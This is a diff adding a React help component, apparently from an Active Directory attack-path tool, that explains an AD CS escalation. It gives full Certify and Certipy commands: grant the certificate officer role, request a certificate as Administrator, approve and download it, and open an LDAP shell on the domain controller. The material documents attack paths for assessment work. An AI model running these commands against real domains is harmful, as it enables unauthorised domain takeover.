@@ -0,0 +1,70 @@
+// Copyright 2026 Specter Ops, Inc.
+//
+// Licensed under the Apache License, Version 2.0
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+//
+// SPDX-License-Identifier: Apache-2.0
+
+import { Box, Typography } from '@mui/material';
+import { FC } from 'react';
+
+const WindowsAbuse: FC = () => {
+    return (
+        <>
+            <Typography variant='body2'>An attacker may perform this attack in the following steps:</Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 1:
+                </Box>{' '}
+                If the principal only holds the Manage CA right, grant it the certificate officer role on the
+                enterprise CA:
+            </Typography>
+            <Typography component={'pre'}>
+                {'Certify.exe manage-ca --ca rootdomaindc.forestroot.com\\forestroot-RootDomainDC-CA --officer john'}
+            </Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 2:
+                </Box>{' '}
+                Use Certify (2.0) to request enrollment in the affected template, specifying the affected certification
+                authority and target principal to impersonate. The request will be held as pending if the template
+                requires manager approval; note the request ID:
+            </Typography>
+            <Typography component={'pre'}>
+                {
+                    'Certify.exe request --ca rootdomaindc.forestroot.com\\forestroot-RootDomainDC-CA --template SubCA --upn Administrator --sid-url S-1-5-21-976219687-1556195986-4104514715-500'
+                }
+            </Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 3:
+                </Box>{' '}
+                Approve the pending request as certificate officer and download the issued certificate:
+            </Typography>
+            <Typography component={'pre'}>
+                {
+                    'Certify.exe manage-ca --ca rootdomaindc.forestroot.com\\forestroot-RootDomainDC-CA --issue-id 42\nCertify.exe request-download --ca rootdomaindc.forestroot.com\\forestroot-RootDomainDC-CA --id 42'
+                }
+            </Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 4:
+                </Box>{' '}
+                Use Certipy to connect to the domain controller via Schannel, specifying the PFX-formatted certificate
+                downloaded in Step 3:
+            </Typography>
+            <Typography component={'pre'}>{'certipy auth -pfx .\\cert.pfx -dc-ip 10.4.0.4 -ldap-shell'}</Typography>
+        </>
+    );
+};
+
+export default WindowsAbuse;